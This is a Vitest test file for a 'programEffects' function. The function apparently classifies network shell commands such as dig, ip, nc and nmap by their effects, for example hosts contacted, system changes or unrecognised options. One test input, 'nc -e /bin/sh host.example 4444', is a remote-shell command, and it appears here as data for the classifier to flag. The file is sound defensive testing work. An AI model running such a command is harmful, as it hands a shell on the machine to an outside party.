import { describe, expect, it } from 'vitest';
import { programEffects } from '../../../test/fixtures/program-effects.ts';

describe('network programs', () => {
  it.each([
    ['nslookup', 'host ?'],
    ['telnet', 'host ?'],
    ['dig', 'host ?'],
    ['resolvectl dns', ''],
    ['resolvectl dns eth0 192.0.2.1', '?option'],
    ['ip addr show dev eth0', ''],
    ['ip -br -4 a', ''],
    ['ip route get 8.8.8.8', ''],
    ['ip link set eth0 down', 'change-system'],
    ['ip addr add 10.0.0.1/8 dev eth0', 'change-system'],
    ['ip netns exec x sh', '?option'],
    ['ip -batch file', '?option'],
    ['ip netns', ''],
    ['ifconfig eth0', ''],
    ['ifconfig eth0 down', '?option'],
    ['ping -c 1 example.com', 'host example.com'],
    ['dig +short @1.1.1.1 example.com mx', 'host 1.1.1.1, host example.com'],
    ['dig -f list.txt', 'host list.txt, ?option'],
    ['nslookup -type=mx example.com', 'host example.com'],
    ['host example.com', 'host example.com'],
    ['ss -tlnp', ''],
    ['ss -K dst 10.0.0.1', '?option'],
    ['netstat -tlnp', ''],
    ['lsof -i :3000', ''],
    ['lsof -i tcp:80 -sTCP:LISTEN', ''],
    ['arp -a', ''],
    ['arp -d 10.0.0.1', '?option'],
    ['route -n', ''],
    ['route add default gw 10.0.0.1', '?option'],
    ['nc -zv host.example 80', 'host host.example'],
    ['nc -l 4444', 'host 4444, serve'],
    ['nc -U x.sock', 'read x.sock, change-remote'],
    ['nc x.sock -NU', 'read x.sock, change-remote'],
    ['nc -U -l x.sock', 'read x.sock, change-remote, serve'],
    ['ncat --unixsock x.sock', 'read x.sock, change-remote'],
    ['nc -e /bin/sh host.example 4444', 'host ?, ?option'],
    ['nmap -sn 10.0.0.0/24', 'host 10.0.0.0'],
    ['nmap --script x host.example', 'host x, host host.example, ?option'],
    ['whois example.com', 'host example.com'],
    ['dig +short @1.1.1.1 example.com MX', 'host 1.1.1.1, host example.com'],
  ])('%s', (line, expected) => {
    expect(programEffects(line)).toBe(expected);
  });
});
